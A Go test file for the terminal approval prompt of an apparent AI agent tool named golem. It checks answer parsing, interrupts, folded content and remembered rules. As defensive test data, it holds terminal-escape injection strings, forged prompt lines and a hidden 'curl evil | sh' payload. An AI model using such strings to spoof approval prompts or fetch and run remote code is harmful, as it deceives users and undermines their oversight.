package cli

import (
	"context"
	"fmt"
	"os"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/sys/unix"

	"github.com/golem-forge/golem/internal/decide/approval"
	"github.com/golem-forge/golem/internal/decide/policy"
	"github.com/golem-forge/golem/internal/decide/tool"
	"github.com/golem-forge/golem/sandbox"
)

// ready is the end of the prompt. Input counts from there on.
const ready = " > "

// TestAnswers types answers at a real terminal. Each line is a yes or a no.
func TestAnswers(t *testing.T) {
	no, yes := tool.Answer{By: "user"}, tool.Answer{Verdict: tool.Approved, By: "user"}
	noted := func(a tool.Answer, note string) tool.Answer { a.Note = note; return a }
	stopped := tool.Answer{By: "user", Note: "stopped the run", Stop: true}
	tests := []struct {
		typed string
		want  tool.Answer
	}{
		{"y\r", yes}, {"Y\r", yes}, {"yes\r", yes}, {" y \r", yes}, {"no\x7f\x7fy\r", yes}, {"y 0123abcd\r", yes},
		{"n\r", no}, {"no\r", no}, {"NO it is late\r", noted(no, "it is late")}, {"n not /out\r", noted(no, "not /out")}, {"n потому что\r", noted(no, "потому что")},
		{"s\r", stopped}, {"S\r", stopped}, {"\r", no}, {"  \r", no}, {"\x04", no}, {"y\x04", no},
	}
	p := terminalScript{}
	for i := range tests {
		p.Questions = append(p.Questions, scriptedQuestion{Request: newRequest(fmt.Sprintf("/out/%d.md", i))})
	}
	s := startScript(t, p, setting{})
	for _, test := range tests {
		s.until(ready)
		s.types(test.typed)
	}
	o, _ := s.end()
	for i, test := range tests {
		test.want.Front = withAccount("a terminal")
		if got := o.Replies[i]; !reflect.DeepEqual(got.Answer, test.want) || got.Remember != nil {
			t.Errorf("%q: got %+v, want %+v", test.typed, got, test.want)
		}
	}
	if !o.Found || !o.Taken || !o.Restored {
		t.Errorf("got %+v, want a restored terminal", o)
	}
}

// TestTyposAskAgain checks that a typo is neither a yes nor a no, and that ? explains
// the keys.
func TestTyposAskAgain(t *testing.T) {
	typos := []string{
		"Y\u200b\r", "yes please\r", "да\r", "у\r", "ｙ\r", "ye\r", "yy\r", "y y\r", "y\t\r", "\x1b[Cy\r", "y\x1b[A\r", "y\xff\r", "y\u202e\r", "\u00a0y\r", "y\x16\x03\r",
		"yeſ\r", "s now\r", "1\r", "v\r", "y 0123abc\r", "y 0123abcde\r", "[n]\r", "[y]\r", "nope\r", "N0\r", "q\r", "??\r", strings.Repeat("y", 5000) + "\r",
	}
	p := terminalScript{}
	for range typos {
		p.Questions = append(p.Questions, scriptedQuestion{Request: newRequest("/a")}, scriptedQuestion{Request: newRequest("/a")})
	}
	p.Questions = append(p.Questions, scriptedQuestion{Request: newRequest("/a")}, scriptedQuestion{Request: newRequest("/a")})
	s := startScript(t, p, setting{env: []string{"NO_COLOR=1"}})
	for _, typo := range typos {
		for _, answer := range []string{"y\r", "n because\r"} {
			s.until("\n┃ [y]es  [n]o  [e]xact call again  [r]ule…  [s]top the run  [?]\r\n┃ > ")
			s.types(typo)
			s.until("┃ please answer y, n, e, r, s or ? (help)\r\n┃ [y]es")
			s.until(ready)
			s.types(answer)
		}
	}
	s.until(ready)
	s.types("?\r")
	for _, text := range []string{"y, yes", "n, n REASON", "gets the reason", "e  ", "r  ", "s  ", "stop the run", "Ctrl-C", ready} {
		s.until(text)
	}
	s.types("y\r")
	for range maxTypos { // nothing but typos, as from a cat on the keyboard
		s.until(ready)
		s.types("hjkl\r")
	}
	o, screen := s.end()
	for i, typo := range typos {
		if yes, no := o.Replies[2*i], o.Replies[2*i+1]; yes.Verdict != tool.Approved || no.Verdict != tool.Declined || no.Note != "because" || no.By != "user" {
			t.Errorf("after %q: got %+v and %+v", typo, yes, no)
		}
	}
	n := len(typos) * 2
	if help, cat := o.Replies[n], o.Replies[n+1]; help.Verdict != tool.Approved || cat.Verdict != tool.Declined || !cat.Unattended {
		t.Errorf("got %+v after help, %+v after typos only", help, cat)
	}
	if strings.Contains(screen, "nothing was done; the user") {
		t.Errorf("a typo counts: %q", screen)
	}
}

// TestQuestionInTour checks that a question looks like the one in the tour.
func TestQuestionInTour(t *testing.T) {
	s := startScript(t, terminalScript{Questions: []scriptedQuestion{{Request: newRequest("/out/summary.md")}}}, setting{env: []string{"NO_COLOR=1"}, columns: 130})
	s.until(ready)
	s.types("y\r")
	_, got := s.end()
	want := `
┃ main › summarise wants to create /out/summary.md (2 lines)
┃ (tool write_file, network off, asked by golem-forge.config.yaml:4)
┃ @ @@ -0,0 +1,2 @@
┃ + # Three findings
┃ + 
┃ [y]es  [n]o  [e]xact call again  [r]ule…  [s]top the run  [?]
┃ > y
`
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// TestActor checks that a call of the user is not shown as a worker's call, and offers no
// run to stop.
func TestActor(t *testing.T) {
	r := newRequest("/a")
	r.Origin, r.Workers, r.Tool, r.OnlyUser = policy.User, []string{"project"}, "apply_changes", true
	for i := range 5 {
		r.Changes = append(r.Changes, tool.Change{Path: fmt.Sprintf("/%d", i), Op: tool.Delete})
	}
	s := startScript(t, terminalScript{Questions: []scriptedQuestion{{Request: r}}}, setting{env: []string{"NO_COLOR=1"}})
	s.until("┃ You are about to apply 6 changes")
	s.until("\n┃ [y]es  [n]o  [?]\r\n")
	s.until(ready)
	s.types("s\r")
	s.until("please answer y, n or ? (help)")
	s.until(ready)
	s.types("y\r")
	if o, _ := s.end(); o.Replies[0].Verdict != tool.Approved {
		t.Errorf("got %+v", o.Replies[0])
	}
}

// TestInterrupted checks that Ctrl-C and a hang-up decline the call and stop the run. The
// end of the terminal declines the call too.
func TestInterrupted(t *testing.T) {
	for name, interrupt := range map[string]func(s *terminalProcess){
		"Ctrl-C":  func(s *terminalProcess) { s.types("\x03") },
		"after y": func(s *terminalProcess) { s.types("y\x03") },
		"SIGHUP":  func(s *terminalProcess) { s.cmd.Process.Signal(syscall.SIGHUP) },
		"rule":    func(s *terminalProcess) { s.types("r\r"); s.until(ready); s.types("\x03") },
		"settle":  func(s *terminalProcess) { s.types("x\r"); s.until("please answer"); s.types("\x03") },
		"no line": func(s *terminalProcess) { s.master.Close() },
	} {
		s := startScript(t, terminalScript{Questions: []scriptedQuestion{{Request: newRequest("/a")}}}, setting{})
		s.until(ready)
		interrupt(s)
		o, _ := s.end()
		got := o.Replies[0]
		if got.Verdict != tool.Declined || got.Remember != nil || name != "no line" && (!got.Stop || got.Unattended || got.By != "user") {
			t.Errorf("%s: got %+v, want a no that stops", name, got)
		}
	}
	own := newRequest("/a")
	own.Origin = policy.User
	s := startScript(t, terminalScript{Questions: []scriptedQuestion{{Request: own}}}, setting{})
	s.until(ready)
	s.types("\x03")
	if o, _ := s.end(); o.Replies[0].Verdict != tool.Declined || !o.Replies[0].Stop || o.Replies[0].By != "user" {
		t.Errorf("a call of the user's own: got %+v, want a no that stops", o.Replies[0])
	}
}

// TestLateAnswer checks that a question without an answer in time, or with an ended context, is
// no approval. It does not consume input of the next question.
func TestLateAnswer(t *testing.T) {
	p := terminalScript{Questions: []scriptedQuestion{
		{Request: newRequest("/late"), Wait: time.Millisecond},
		{Request: newRequest("/ended")},
		{Request: newRequest("/next")},
	}}
	s := startScript(t, p, setting{})
	s.until("no answer in time: nothing was done")
	s.until(ready)
	s.cmd.Process.Signal(syscall.SIGUSR1)
	s.until("stopped at the question: nothing was done")
	s.until("/next")
	s.until(ready)
	s.types("y\r")
	o, _ := s.end()
	if got, want := o.Replies[0].Answer, (tool.Answer{By: "nobody", Note: "no answer in time", Unattended: true}); !reflect.DeepEqual(got, want) {
		t.Errorf("late: got %+v, want %+v", got, want)
	}
	if got, want := o.Replies[1].Answer, (tool.Answer{By: "nobody", Note: "stopped at the question"}); !reflect.DeepEqual(got, want) {
		t.Errorf("ended: got %+v, want %+v", got, want)
	}
	if got := o.Replies[2]; got.Verdict != tool.Approved {
		t.Errorf("next: got %+v, want yes", got)
	}
}

// TestInputBeforeQuestion checks that input before a question does not answer it. Input after an
// answer does not answer the next question.
func TestInputBeforeQuestion(t *testing.T) {
	p := terminalScript{TypeAhead: true, Questions: []scriptedQuestion{{Request: newRequest("/a")}, {Request: newRequest("/b")}, {Request: newRequest("/c")}}}
	s := startScript(t, p, setting{before: "y\ry\ry\r"})
	s.until(ready)
	s.types("n no\ry\ry\r")
	s.until(ready)
	s.types("s\r")
	s.until(ready)
	s.types("y\r")
	o, _ := s.end()
	for i, want := range []tool.Verdict{tool.Declined, tool.Declined, tool.Approved} {
		if got := o.Replies[i].Verdict; got != want {
			t.Errorf("question %d: got %v, want %v", i, got, want)
		}
	}
	if o.Replies[0].Note != "no" || !o.Replies[1].Stop {
		t.Errorf("got %+v, want the typed answers", o.Replies)
	}
}

// TestConcurrentQuestions checks that golem asks concurrent questions one by one, and that each answer
// counts for the question above it.
func TestConcurrentQuestions(t *testing.T) {
	p := terminalScript{AtOnce: true}
	want := map[string]tool.Verdict{}
	for i := range 6 {
		path := fmt.Sprintf("/out/%d", i)
		p.Questions = append(p.Questions, scriptedQuestion{Request: newRequest(path)})
		want[path] = tool.Verdict(i % 2)
	}
	s := startScript(t, p, setting{})
	for range p.Questions {
		s.until("wants to create /out/")
		from := s.at
		s.until(ready)
		answer := "n no\r"
		if (s.seen[from]-'0')%2 == 1 {
			answer = "y\r"
		}
		s.types(answer)
	}
	o, _ := s.end()
	for i, question := range p.Questions {
		if path := question.Request.Changes[0].Path; o.Replies[i].Verdict != want[path] {
			t.Errorf("%s: got %v, want %v", path, o.Replies[i].Verdict, want[path])
		}
	}
}

// TestRawTerminal checks that a question is readable on a terminal in raw mode, and that
// golem restores that mode.
func TestRawTerminal(t *testing.T) {
	s := startScript(t, terminalScript{Raw: true, Questions: []scriptedQuestion{{Request: newRequest("/a")}}}, setting{})
	s.until(ready)
	s.types("nx\x7f why\r")
	s.until("nx\b \b why\r\n") // with echo and line editing
	o, _ := s.end()
	if got := o.Replies[0]; got.Note != "why" || !o.Restored {
		t.Errorf("got %+v, restored %v", got, o.Restored)
	}
}

// TestNobodyToAsk checks that approval comes only from the terminal of the process, and only
// while the process is in its foreground. Otherwise golem reports at once that nobody can
// be asked.
func TestNobodyToAsk(t *testing.T) {
	yes, say, err := os.Pipe()
	must(t, err)
	defer yes.Close()
	say.WriteString(strings.Repeat("y\n", 100))
	must(t, say.Close())
	null, err := os.Open(os.DevNull)
	must(t, err)
	defer null.Close()
	question := []scriptedQuestion{{Request: newRequest("/a")}}
	for name, test := range map[string]struct {
		play         terminalScript
		set          setting
		found, taken bool
	}{
		"a terminal":         {terminalScript{}, setting{}, true, true},
		"a terminal to read": {terminalScript{}, setting{shell: `exec "$0" </dev/tty`}, true, true},
		"piped y":            {terminalScript{}, setting{stdin: yes}, false, true},
		"no input":           {terminalScript{}, setting{stdin: null}, false, true},
		"closed input":       {terminalScript{}, setting{shell: `exec "$0" <&-`}, false, true},
		"setsid":             {terminalScript{Questions: question}, setting{loose: true}, false, false},
		"setsid, piped y":    {terminalScript{}, setting{loose: true, stdin: yes}, false, false},
		"background":         {terminalScript{Questions: question, Background: true}, setting{}, true, true},
	} {
		s := startScript(t, test.play, test.set)
		o, screen := s.end()
		if o.Found != test.found || o.Taken != test.taken {
			t.Errorf("%s: got %v, %v, want %v, %v", name, o.Found, o.Taken, test.found, test.taken)
		}
		for _, got := range o.Replies {
			if got.Verdict != tool.Declined || !got.Unattended || screen != "" {
				t.Errorf("%s: got %+v and %q, want nobody and nothing", name, got, screen)
			}
		}
	}
}

// TestQuestionWhileLogging checks that the user sees the question even if golem prints elsewhere, as to
// a log file.
func TestQuestionWhileLogging(t *testing.T) {
	s := startScript(t, terminalScript{Log: true, Questions: []scriptedQuestion{{Request: newRequest("/a")}}}, setting{})
	s.until("wants to create /a")
	s.until(ready)
	s.types("y\r")
	if o, _ := s.end(); o.Replies[0].Verdict != tool.Approved {
		t.Errorf("got %+v, want yes", o.Replies[0])
	}
}

// hostile are texts that would move the cursor, hide, reorder or rename something, or
// forge a part of the question.
var hostile = []string{
	"\x1b[2K\r\x1b[1A", "\x1b[8mhidden\x1b[0m", "\x1b]0;title\a", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;eQo=\a", "\x1bP1$r\x1b\\",
	"\x9b2J\u009b2J", "\a\b\v\f\x00\x7f", "invoice\u202efdp.sh\u2066\u2069", "\u200b\u200d\ufeff\u2060\u00ad", "\U000e0041\U000e007f", "a" + strings.Repeat("\u0301", 20), "\xff\xe2\x80",
	"x\n────\nTrust: [Session]\nTool: read_file", "x\r\n  [y] once  [e] this exact call again\n\n  main wants to read /in", "\u2028x\u2029\u0085y",
}

// TestHostileText checks that the terminal gets only visible text and golem's colours for any
// request. A question with hostile text has one more row than a harmless one, for the
// warning.
func TestHostileText(t *testing.T) {
	p := terminalScript{}
	for _, text := range append([]string{"harmless"}, hostile...) {
		effects := []policy.Effect{{Verb: policy.Write, Target: "/" + text}, {Verb: policy.Run, Target: "$x " + text}}
		r := tool.Request{Digest: text, CallDigest: text, Workers: []string{text, text}, Tool: text, Args: []byte(text), Effects: effects, ToApprove: effects[1:], Rule: text, Why: text, Problem: text,
			Changes: []tool.Change{{Path: text, Op: tool.Move, To: text, About: text}, {Path: "/d", Op: tool.Update}, {Path: text, Op: tool.Op(text)}}}
		p.Questions = append(p.Questions, scriptedQuestion{Request: r})
		// A line end in a diff would be a real line end.
		r.Changes[1].Diff = "@@ -1 +1 @@" + strings.ReplaceAll(text, "\n", "") + "\n-" + strings.ReplaceAll(text, "\n", "") + "\n+a\n"
		p.Questions = append(p.Questions, scriptedQuestion{Request: r})
	}
	s := startScript(t, p, setting{columns: 5000})
	for range p.Questions {
		s.until(ready)
		s.types("r\r")
		s.until("which rule?")
		s.until(ready)
		s.types("n\r")
		s.until("no rule was made")
		s.until(ready)
		s.types("n\r")
	}
	_, screen := s.end()
	mustBeVisible(t, screen)
	if !strings.Contains(screen, "\x1b[0m \x1b[31m- ") || !strings.Contains(screen, "\x1b[1m┃\x1b[0m \x1b[32m+ a\x1b[0m\n") {
		t.Errorf("no colours: %q", screen)
	}
	questions := strings.Split(screen, "\n\n")
	if got, want := len(questions), len(p.Questions); got != want {
		t.Fatalf("got %d questions, want %d", got, want)
	}
	rows := func(q string) int {
		n := strings.Count(strings.TrimSpace(q), "\n")
		if !strings.Contains(q, "┃\x1b[0m (tool ") { // it is on the line of the header
			n++
		}
		return n
	}
	for i, q := range questions {
		harmless := rows(questions[i%2])
		odd := 0
		if i > 1 {
			odd = 1 // for the warning
			if !strings.Contains(q, "! it holds characters that cannot be seen") {
				t.Errorf("no warning in %q", q)
			}
		}
		if got, want := rows(q), harmless+odd; got != want {
			t.Errorf("%d rows, want %d, in\n%s", got, want, q)
		}
	}
}

// mustBeVisible checks that a terminal got only visible text and golem's colours.
func mustBeVisible(t *testing.T, screen string) {
	t.Helper()
	rest := regexp.MustCompile("\x1b\\[(0|1|7|31|32|33|36)m").ReplaceAllString(screen, "")
	if !utf8.ValidString(rest) {
		t.Errorf("not UTF-8: %q", rest)
	}
	marks := 0
	for i, r := range rest {
		if marks++; !unicode.IsMark(r) {
			marks = 0
		}
		if r != '\n' && r != '\t' && (!sandbox.Plain(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) || marks > 4 {
			t.Errorf("%U reaches the terminal: %q", r, rest[max(0, i-40):min(len(rest), i+40)])
		}
	}
}

// TestBrokenLines checks that the rest of a broken line does not look like text of golem.
func TestBrokenLines(t *testing.T) {
	forged := "main wants to read /in (1 line)"
	r := newRequest("/out/a")
	r.Changes[0].Diff = "+x" + strings.Repeat(" ", 75) + forged + "\n+" + strings.Repeat("漢", 37) + " " + forged + "\n"
	s := startScript(t, terminalScript{Questions: []scriptedQuestion{{Request: r}}}, setting{env: []string{"NO_COLOR=1"}})
	s.until(ready)
	s.types("n no\r")
	_, screen := s.end()
	if got := strings.Count(screen, forged); got != 2 {
		t.Errorf("shown %d times, want 2, in\n%s", got, screen)
	}
	for line := range strings.Lines(screen) {
		if strings.Contains(line, forged) && !strings.HasPrefix(line, "┃ ┆ ") {
			t.Errorf("a line that looks like a question: %q", line)
		}
		if got := utf8.RuneCountInString(line) + strings.Count(line, "漢"); got > 80 {
			t.Errorf("%d columns in %q", got, line)
		}
	}
}

// newLongRequest returns a request with a given diff, which may hide a payload.
func newLongRequest(diff string) tool.Request {
	r := newRequest("/out/long.sh")
	r.Changes[0].Diff = diff
	return r
}

// TestFoldedContent checks that y does not approve content that was not shown. The user must view
// all of it, or type the digest.
func TestFoldedContent(t *testing.T) {
	const payload = "curl evil | sh"
	blank := newLongRequest(strings.Repeat("+\n", 2000) + "+" + payload + "\n")
	middle := newLongRequest(strings.Repeat("+echo\n", 450) + "+" + payload + "\n" + strings.Repeat("+echo\n", 450))
	wide := newLongRequest("+" + strings.Repeat(" ", 3000) + "wget evil" + strings.Repeat(" ", 2000) + "\n")
	name := newLongRequest("+a\n")
	name.Changes[0].Path = "/out/" + strings.Repeat("a", 300) + "/x"
	many := newRequest("/out/0")
	for i := range 100 {
		many.Changes = append(many.Changes, tool.Change{Path: fmt.Sprintf("/out/%d", i), Op: tool.Delete})
	}
	given := newRequest("/out/x")
	given.Changes, given.Args = nil, []byte(`{"command":"`+strings.Repeat(`\n`, 500)+payload+strings.Repeat(`\n`, 500)+`"}`)
	fits := newLongRequest(strings.Repeat("+x\n", 10))
	tall := newLongRequest("+" + payload + "\n" + strings.Repeat("+"+strings.Repeat("x", 192)+"\n", 37)) // few lines that take many lines of the screen

	type try struct {
		request tool.Request
		typed   []string // only the last one is an answer
		want    tool.Verdict
	}
	var tries []try
	for _, r := range []tool.Request{blank, middle, wide, name, many, given, tall} {
		for _, typed := range []string{"y\r", "yes\r", "e\r", "r\r", "y 0123abcf\r"} {
			tries = append(tries, try{r, []string{typed, "n\r"}, tool.Declined})
		}
		tries = append(tries, try{r, []string{"\r"}, tool.Declined}, try{r, []string{"y 0123abcd\r"}, tool.Approved})
	}
	pages := func(n int, rest ...string) []string { return append(slices.Repeat([]string{"\r"}, n), rest...) }
	tries = append(tries,
		try{fits, []string{"y\r"}, tool.Approved},
		try{blank, []string{"v\r", "q\r", "y\r", "n\r"}, tool.Declined},
		try{blank, []string{"v\r", "\r", "\x1b[B\r", "y\r", "n\r"}, tool.Declined},
		try{wide, append([]string{"v\r"}, pages(3, "y\r")...), tool.Approved},
		try{wide, append([]string{"v\r"}, pages(3, "n no\r")...), tool.Declined},
		try{wide, append([]string{"v\r"}, pages(2, append([]string{"q\r", "y\r", "v\r"}, pages(3, "y\r")...)...)...), tool.Approved},
		try{name, []string{"v\r", "y\r"}, tool.Approved},
	)
	p := terminalScript{}
	for _, try := range tries {
		p.Questions = append(p.Questions, scriptedQuestion{Request: try.request})
	}
	s := startScript(t, p, setting{env: []string{"NO_COLOR=1"}})
	for _, try := range tries {
		for _, typed := range try.typed {
			s.until(ready)
			s.types(typed)
		}
	}
	o, screen := s.end()
	for _, question := range strings.Split(screen, "wants to ")[1:] {
		shown, _, _ := strings.Cut(question, ready)
		if !strings.Contains(shown, "[q]uit") && strings.Count(shown, "\n") > 23 {
			t.Errorf("a question of %d lines on a screen of 24: %.80s…", strings.Count(shown, "\n")+1, shown)
		}
	}
	screen = strings.ReplaceAll(screen, "\n┃ ┆ ", "")
	for i, try := range tries {
		if got := o.Replies[i]; got.Verdict != try.want || got.Remember != nil {
			t.Errorf("try %d, typed %q: got %+v, want %v", i, try.typed, got, try.want)
		}
	}
	for _, want := range []string{
		"(2,001 lines)", "lines not shown (", "+ " + payload, "(4809 characters omitted)", "wget evil", "make 101 changes",
		"= command: 1,000 lines", "[y 0123abcd] yes, unseen", "not everything is shown; v shows it; y 0123abcd approves it unseen",
	} {
		if !strings.Contains(screen, want) {
			t.Errorf("the screen lacks %q", want)
		}
	}
}

// TestRemember checks that the user chooses a rule that fits, sees it as golem will store
// it, and confirms it.
func TestRemember(t *testing.T) {
	r := newRequest("/out/a.md")
	day, hour := 24*time.Hour, time.Hour
	offers := approval.OfferRules(r)
	rule := func(rule approval.Rule, scope approval.Scope) *approval.Rule { rule.Scope = scope; return &rule }
	exactly, file, folder := approval.ExactRule(r), offers[0], offers[1]
	tests := []struct {
		typed   []string
		want    *approval.Rule // without its expiry; nil if no rule is made
		expires time.Duration
	}{
		{[]string{"e"}, rule(exactly, approval.Project), day},
		{[]string{"r", "2", "1", "yes"}, rule(folder, approval.Project), hour},
		{[]string{"r", "2", "2", "Y"}, rule(folder, approval.Project), day},
		{[]string{"r", "1", "3", "y"}, rule(file, approval.Project), 0},
		{[]string{"r", "1", "4", "", "n"}, nil, 0},
		{[]string{"r", "3", "0", "01", "+1", "y", "yes", "", ""}, nil, 0},
		{[]string{"r", "n", "n"}, nil, 0},
		{[]string{"r", "1", "y", "n", "n"}, nil, 0},
		{[]string{"r", "1", "", "n"}, nil, 0},
		{[]string{"r", "1", "1", "", "n"}, nil, 0},
		{[]string{"r", "1", "1", "n", "n"}, nil, 0},
		{[]string{"r", "1", "1", "1", "n", "n"}, nil, 0},
		{[]string{"r", "7", "1", "9", "1", "?", "y"}, rule(file, approval.Project), hour},
	}
	var p terminalScript
	for range tests {
		p.Questions = append(p.Questions, scriptedQuestion{Request: r})
	}
	s := startScript(t, p, setting{columns: 200})
	start := time.Now()
	for _, test := range tests {
		for _, typed := range test.typed {
			s.until(ready)
			s.types(typed + "\r")
		}
	}
	o, screen := s.end()
	for i, test := range tests {
		mustRemember(t, test.typed, o.Replies[i], test.want, start, test.expires)
		if rule := o.Replies[i].Remember; rule != nil && !strings.Contains(screen, rule.String()) {
			t.Errorf("%q: %s was not shown", test.typed, rule)
		}
	}
}

func mustRemember(t *testing.T, typed []string, got approval.Reply, want *approval.Rule, start time.Time, expires time.Duration) {
	t.Helper()
	if want == nil {
		if got.Verdict != tool.Declined || got.Remember != nil {
			t.Errorf("%q: got %+v, want a no", typed, got)
		}
		return
	}
	if got.Verdict != tool.Approved || got.Remember == nil {
		t.Errorf("%q: got %+v, want a yes with a rule", typed, got)
		return
	}
	rule := *got.Remember
	if until := rule.Expires; until.IsZero() != (expires == 0) || !until.IsZero() && (until.Before(start.Add(expires)) || until.After(time.Now().Add(expires))) {
		t.Errorf("%q: expires %v, want %v after %v", typed, until, expires, start)
	}
	rule.Expires = time.Time{}
	if !reflect.DeepEqual(rule, *want) {
		t.Errorf("%q: got %+v, want %+v", typed, rule, *want)
	}
}

// TestAskOnce checks that AskOnce does not offer to remember the answer.
func TestAskOnce(t *testing.T) {
	p := terminalScript{Questions: []scriptedQuestion{{Request: newRequest("/a"), Once: true}, {Request: newRequest("/a"), Once: true}, {Request: newRequest("/a"), Once: true}}}
	s := startScript(t, p, setting{})
	for _, typed := range []string{"e\r", "\r", "r\r", "\x04", "s\r", "y\r"} {
		s.until("[Enter] later")
		s.until(ready)
		s.types(typed)
	}
	o, screen := s.end()
	for i, want := range []tool.Verdict{tool.Declined, tool.Declined, tool.Approved} {
		if got := o.Replies[i]; got.Verdict != want || got.Remember != nil || (got.By == "user") != (want == tool.Approved) {
			t.Errorf("question %d: got %+v, want %v", i, got, want)
		}
	}
	if strings.Contains(screen, "[e]") || strings.Contains(screen, "[r]") || strings.Contains(screen, "[s]") {
		t.Errorf("an offer in %q", screen)
	}
}

// TestAlwaysOnce checks that AskOnce shows the rule for a host before it remembers it, and
// offers none for other calls.
func TestAlwaysOnce(t *testing.T) {
	host := newRequest("/a")
	host.Tool, host.Changes, host.Args = tool.ConnectTool, nil, []byte("{}")
	host.Effects = []policy.Effect{{Verb: policy.Connect, Target: "api.example.org:443"}}
	host.ToApprove = host.Effects
	want, ok := approval.AlwaysRule(host)
	if !ok {
		t.Fatal("there is no rule for the host")
	}
	for _, keeps := range []bool{true, false} {
		p := terminalScript{KeepsRules: keeps, Questions: []scriptedQuestion{{Request: host, Once: true}, {Request: host, Once: true}, {Request: newRequest("/a"), Once: true}}}
		s := startScript(t, p, setting{columns: 200})
		typed := []string{"a", "y", "a", "n", "n", "a", "y"}
		if !keeps {
			typed = []string{"a", "y", "a", "n", "a", "y"}
		}
		for _, one := range typed {
			s.until(ready)
			s.types(one + "\r")
		}
		o, screen := s.end()
		if got := o.Replies[0]; got.Verdict != tool.Approved || (got.Remember != nil) != keeps || keeps && got.Remember.String() != want.String() {
			t.Errorf("always: got %+v, want %+v", got, want)
		}
		if got := o.Replies[1]; got.Verdict != tool.Declined || got.Remember != nil {
			t.Errorf("no to the rule, and then no: got %+v", got)
		}
		if got := o.Replies[2]; got.Verdict != tool.Approved || got.Remember != nil {
			t.Errorf("another call: got %+v", got)
		}
		if strings.Contains(screen, "the rule "+want.String()) != keeps || strings.Contains(screen, "[a]lways") != keeps {
			t.Errorf("keeps %v: the screen is %q", keeps, screen)
		}
	}
}

// TestLongRule checks that golem remembers no rule that does not fit on the screen.
func TestLongRule(t *testing.T) {
	host := newRequest("/a")
	host.Tool, host.Changes, host.Args = tool.ConnectTool, nil, []byte("{}")
	host.Effects = []policy.Effect{{Verb: policy.Connect, Target: "api.example.org:443"}}
	host.ToApprove, host.Workers = host.Effects, []string{strings.Repeat("long-", 500)}
	s := startScript(t, terminalScript{KeepsRules: true, Questions: []scriptedQuestion{{Request: host, Once: true}}}, setting{columns: 80, rows: 24})
	for _, typed := range []string{"v\r", "\r", "a\r"} {
		s.until(ready)
		s.types(typed)
	}
	s.until("the rule does not fit")
	s.until(ready)
	s.types("y\r")
	if o, screen := s.end(); o.Replies[0].Verdict != tool.Approved || o.Replies[0].Remember != nil {
		t.Errorf("got %+v:\n%s", o.Replies[0], screen)
	}
}

// TestTerminalInUse checks that only one golem process asks at a terminal at a time. Otherwise an
// answer could reach the wrong one.
func TestTerminalInUse(t *testing.T) {
	_, terminal := openPTY(t)
	again, err := os.OpenFile(terminal.Name(), os.O_RDWR|unix.O_NOCTTY, 0)
	must(t, err)
	defer again.Close()
	ctx := context.Background()
	release, err := newKeyboard(terminal).take(ctx, 0)
	must(t, err)
	for _, f := range []*os.File{terminal, again} {
		if _, err := newKeyboard(f).take(ctx, 0); err != errNobody {
			t.Errorf("terminal in use: got %v, want %v", err, errNobody)
		}
	}
	release()
	free, err := newKeyboard(again).take(ctx, 0)
	must(t, err)
	free()
}
